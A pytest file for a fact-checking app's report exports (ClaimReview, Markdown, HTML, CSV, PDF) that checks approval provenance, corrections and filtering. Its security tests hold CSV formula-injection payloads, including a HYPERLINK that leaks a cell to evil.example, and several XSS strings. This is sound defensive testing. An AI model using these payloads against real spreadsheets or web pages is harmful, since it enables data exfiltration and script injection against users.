"""Reports show only what people approved; ClaimReview carries what search engines require."""

import csv
import json
from datetime import UTC

from bs4 import BeautifulSoup
from sqlmodel import select

from factcheck.auth.permissions import CONSOLE
from factcheck.drafts import service as drafts
from factcheck.exports import service as exports
from factcheck.exports.selection import Selection
from factcheck.models import User
from factcheck.tickets import publishing
from factcheck.tickets.states import transition
from tests.factories import ingest, make_user


def _report(session, settings, fmt, **sel):
    report = exports.prepare(session, actor=CONSOLE, fmt=fmt, selection=Selection(**sel), settings=settings)
    return report.content.decode() if report.content is not None else "".join(report.stream(session))


def _reviewed(session, settings, *, published=True):
    result = ingest(session, settings, url="https://news.example/riverton", published=None)
    editor = make_user(session, "ed", "editor")
    ticket = result.tickets[0]
    items = drafts.for_ticket(session, ticket.id)
    drafts.approve(session, actor=editor, item_id=items[0].id, expected_version=1)
    drafts.reject(session, actor=editor, item_id=items[1].id, expected_version=1)
    transition(
        session,
        actor=editor,
        ticket_id=ticket.id,
        to="disputed",
        rationale="The minutes say 6-3, not 7-2.",
        expected_version=1,
        rating="Misleading",
    )
    if published:
        publishing.publish(session, actor=editor, ticket_id=ticket.id, expected_version=ticket.version)
    session.commit()
    return result, ticket, items


def test_claimreview_has_googles_required_and_recommended_fields(session, settings):
    _, ticket, _ = _reviewed(session, settings)
    reviews = json.loads(_report(session, settings, "claimreview"))
    assert len(reviews) == 1
    r = reviews[0]
    assert r["@context"] == "https://schema.org" and r["@type"] == "ClaimReview"
    assert r["claimReviewed"] == ticket.claim
    assert (
        r["url"] == f"https://checks.desk.example/factchecks/{ticket.id}-the-riverton-city-council-voted-7-2-on-march-3"
    )
    assert r["author"] == {"@type": "Organization", "name": "Test Desk", "url": "https://desk.example/"}
    rating = r["reviewRating"]
    assert (rating["alternateName"], rating["ratingValue"], rating["bestRating"], rating["worstRating"]) == (
        "Misleading",
        2,
        5,
        1,
    )
    assert r["itemReviewed"]["@type"] == "Claim"
    assert r["itemReviewed"]["appearance"][0]["url"] == "https://news.example/riverton"
    assert len(r["datePublished"]) == 10


def test_claimreview_holds_only_published_verdicts_dated_by_first_publication_with_corrections(session, settings):
    _, ticket, _ = _reviewed(session, settings, published=False)
    assert json.loads(_report(session, settings, "claimreview")) == []
    ed = session.exec(select(User).where(User.name == "ed")).one()
    published = publishing.publish(session, actor=ed, ticket_id=ticket.id, expected_version=ticket.version)
    transition(
        session,
        actor=ed,
        ticket_id=ticket.id,
        to="corroborated",
        rationale="The recording says 7-2.",
        expected_version=published.version,
        rating="True",
        correction="We relied on draft minutes; the approved minutes say 7-2.",
    )
    again = publishing.publish(session, actor=ed, ticket_id=ticket.id, expected_version=ticket.version)
    session.commit()
    [r] = json.loads(_report(session, settings, "claimreview"))
    assert r["datePublished"] == published.first_published_at.date().isoformat()
    assert r["dateModified"] == again.published_at.date().isoformat()
    assert r["reviewRating"]["alternateName"] == "True"
    assert "Correction (" in r["reviewBody"] and "approved minutes say 7-2" in r["reviewBody"]
    md = _report(session, settings, "md")
    assert "**Corrections**" in md and "was disputed (Misleading)" in md and "- **Rating:** True" in md
    html = _report(session, settings, "html")
    assert "approved minutes say 7-2" in html and "rated True" in html
    row = next(csv.DictReader(_report(session, settings, "csv").splitlines()))
    assert row["rating"] == "True" and "approved minutes say 7-2" in row["corrections"]
    data = json.loads(_report(session, settings, "json"))["tickets"][0]
    assert data["corrections"][0]["was_rating"] == "Misleading" and data["claim_review"]["dateModified"]


def test_every_report_discloses_what_a_machine_drafted_and_who_approved_it(session, settings):
    _reviewed(session, settings)
    md = _report(session, settings, "md")
    assert "drafted by the offline rule-based engine, approved by ed" in md
    assert "drafted by the offline rule-based engine, approved by ed" in _report(session, settings, "html")


def test_open_tickets_are_left_out_unless_asked_for(session, settings):
    result, _, _ = _reviewed(session, settings)
    closed = json.loads(_report(session, settings, "json"))["tickets"]
    everything = json.loads(_report(session, settings, "json", include_open=True))["tickets"]
    assert len(closed) == 1 and len(everything) == len(result.tickets)


def test_reports_show_approved_drafts_only_with_provenance(session, settings):
    _, _, items = _reviewed(session, settings)
    data = json.loads(_report(session, settings, "json"))["tickets"][0]
    shown = [q["text"] for q in data["questions"] + data["sources"]]
    assert items[0].text in shown and items[1].text not in shown
    prov = data["questions"][0]["provenance"]
    assert prov["engine"] == "offline" and prov["prompt_hash"] and data["questions"][0]["approved_by"] == "ed"
    md = _report(session, settings, "md")
    assert "Disputed" in md and "6-3, not 7-2" in md
    csv_text = _report(session, settings, "csv")
    assert csv_text.splitlines()[0].startswith("ticket_id,article_id,article_title")


def test_html_report_embeds_claimreview_that_cannot_break_out_of_its_script(session, settings):
    result, ticket, _ = _reviewed(session, settings)
    ticket.claim = "The mayor said </script><script>alert(1)</script> it rained."
    session.commit()
    html = _report(session, settings, "html")
    page = BeautifulSoup(html, "html.parser")
    scripts = page.find_all("script")
    assert len(scripts) == 1 and scripts[0]["type"] == "application/ld+json"
    assert json.loads(scripts[0].string)["claimReviewed"] == ticket.claim
    assert "@media print" in html


def test_claimreview_is_refused_whole_with_reasons_when_the_publisher_is_not_configured(session, settings):
    import pytest

    from factcheck.exports.claimreview import NotPublishable

    _reviewed(session, settings)
    settings.org_url = "https://example.org/"
    with pytest.raises(NotPublishable, match="FACTCHECK_ORG_URL") as err:
        _report(session, settings, "claimreview")
    assert err.value.status_code == 422
    html = _report(session, settings, "html")
    assert "application/ld+json" not in html  # nothing unpublishable is embedded either


def test_the_pdf_starts_its_content_on_page_one_numbers_its_pages_and_prints_each_link_once(session, settings):
    from io import BytesIO

    import pypdf

    result, ticket, _ = _reviewed(session, settings)
    for i in range(12):  # enough claims for several pages
        extra = ingest(
            session,
            settings,
            text=f"Harbor story {i}\n\nThe harbor moved {100 + i} ships in 2024, according to the port authority.\n",
            url=f"https://news.example/harbor-{i}",
        )
        tickets_ = extra.tickets
        if tickets_:
            transition(
                session,
                actor=session.exec(select(User).where(User.name == "ed")).one(),
                ticket_id=tickets_[0].id,
                to="corroborated",
                rationale="The port's annual report, p. 3.",
                expected_version=1,
            )
    session.commit()
    pdf = exports.prepare(session, actor=CONSOLE, fmt="pdf", selection=Selection(), settings=settings).content
    pages = [p.extract_text() for p in pypdf.PdfReader(BytesIO(pdf)).pages]
    assert len(pages) >= 2
    assert all(f"Page {n} of {len(pages)}" in text for n, text in enumerate(pages, start=1))
    assert ticket.claim[:40] in pages[0].replace("\n", " ")  # the first page carries a claim, not only titles
    everything = " ".join(pages)
    assert everything.count("https://news.example/riverton") == 1


def test_pdf_report_is_a_pdf(session, settings):
    _reviewed(session, settings)
    pdf = exports.prepare(session, actor=CONSOLE, fmt="pdf", selection=Selection(), settings=settings).content
    assert pdf.startswith(b"%PDF-") and len(pdf) > 1000


def test_a_selection_narrows_by_article_date_range_reviewer_and_state(session, settings):
    from datetime import datetime, timedelta

    result, ticket, _ = _reviewed(session, settings)
    other = ingest(
        session, settings, text="Marlow port handled 2.1 million containers in 2024, the port authority said.\n"
    )
    erin = make_user(session, "erin", "editor")
    transition(
        session,
        actor=erin,
        ticket_id=other.tickets[0].id,
        to="corroborated",
        rationale="Annual report, p. 3.",
        expected_version=1,
    )
    session.commit()

    def ids(**sel):
        return [t["id"] for t in json.loads(_report(session, settings, "json", **sel))["tickets"]]

    assert ids(article_ids=[result.article.id]) == [ticket.id]
    assert ids(article_ids=[other.article.id]) == [other.tickets[0].id]
    assert sorted(ids()) == sorted([ticket.id, other.tickets[0].id])
    assert ids(reviewer_id=erin.id) == [other.tickets[0].id]
    assert ids(state="disputed") == [ticket.id]
    today = datetime.now(UTC).date()
    assert len(ids(since=today - timedelta(days=1), until=today + timedelta(days=1))) == 2
    assert ids(since=today + timedelta(days=1)) == []
    assert ids(until=today - timedelta(days=1)) == []


def test_a_selection_that_makes_no_sense_is_refused(session, settings):
    from datetime import date

    import pytest

    from factcheck.core.errors import InvalidInput

    with pytest.raises(InvalidInput, match="after"):
        _report(session, settings, "md", since=date(2025, 5, 2), until=date(2025, 5, 1))
    with pytest.raises(InvalidInput, match="Unknown state"):
        _report(session, settings, "md", state="true-ish")


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_plain_text(session, settings):
    import csv
    import io

    from factcheck.tickets import service as tickets

    result = ingest(session, settings)
    editor = make_user(session, "ed", "editor")
    ticket = result.tickets[0]
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"Minutes")'
    tickets.add_note(session, actor=editor, ticket_id=ticket.id, text=evil, url=None)
    transition(
        session,
        actor=editor,
        ticket_id=ticket.id,
        to="disputed",
        rationale="@SUM(1+1) the minutes say 6-3",
        expected_version=1,
    )
    session.commit()
    rows = list(csv.DictReader(io.StringIO(_report(session, settings, "csv"))))
    row = next(r for r in rows if r["ticket_id"] == str(ticket.id))
    assert row["notes"] == "'" + evil and row["verdict_rationale"].startswith("'@SUM(")
    for cell in (c for r in rows for c in r.values()):
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert row["score"][0].isdigit() and row["ticket_id"] == str(ticket.id)  # numbers stay numbers


HOSTILE_URL = "https://council.example/minutes.pdf><script>alert(document.domain)</script>"


def test_a_link_that_is_not_a_url_is_refused_where_a_person_types_it(client, session, settings):
    from tests.factories import make_token

    ticket = ingest(session, settings).tickets[0]
    token = make_token(session, make_user(session, "rita", "reviewer"))
    refused = client.post(
        f"/api/v1/tickets/{ticket.id}/notes",
        headers={"Authorization": f"Bearer {token}"},
        json={"text": "The minutes.", "url": HOSTILE_URL},
    )
    assert refused.status_code == 422 and "percent-encoded" in refused.json()["error"]["message"]


def test_markdown_renders_every_stored_text_and_link_as_text_never_as_html(session, settings):
    from markdown_it import MarkdownIt

    from factcheck.models import DraftItem, Note

    result, ticket, items = _reviewed(session, settings)
    # As stored before the input rules refused such links, and as a search connector once found one.
    editor = session.exec(select(User).where(User.name == "ed")).one()
    session.add(
        Note(
            ticket_id=ticket.id,
            author_id=editor.id,
            text="*Minutes* <img src=x onerror=alert(1)> [x](y)",
            url=HOSTILE_URL,
        )
    )
    source = session.get(DraftItem, items[0].id)
    source.text = "Council minutes\n\n<script>alert(2)</script>"
    source.url = 'https://search.example/r?q="><iframe src=javascript:alert(3)>'
    session.add(source)
    session.commit()

    markdown = _report(session, settings, "md")
    html = MarkdownIt("commonmark").render(markdown)  # CommonMark lets raw HTML through: the test of it
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["script", "img", "iframe", "style", "object"])
    assert not any(attr.startswith("on") for tag in soup.find_all(True) for attr in tag.attrs)
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert hrefs and all(h.startswith(("http://", "https://")) for h in hrefs)
    assert not any(c in h for h in hrefs for c in '<>"')
    text = soup.get_text()
    assert "<img src=x onerror=alert(1)>" in text and "*Minutes*" in text  # shown as written
    assert "<script>alert(2)</script>" in text


def test_a_quotation_in_its_own_marks_is_not_quoted_twice_in_the_report(session, settings):
    from tests.factories import make_ticket

    make_ticket(session, "“We moved more cargo than ever,” the harbor master said.")
    html = _report(session, settings, "html", include_open=True)
    assert "““" not in html and "””" not in html
    assert "<blockquote>“We moved more cargo than ever,” the harbor master said.</blockquote>" in html
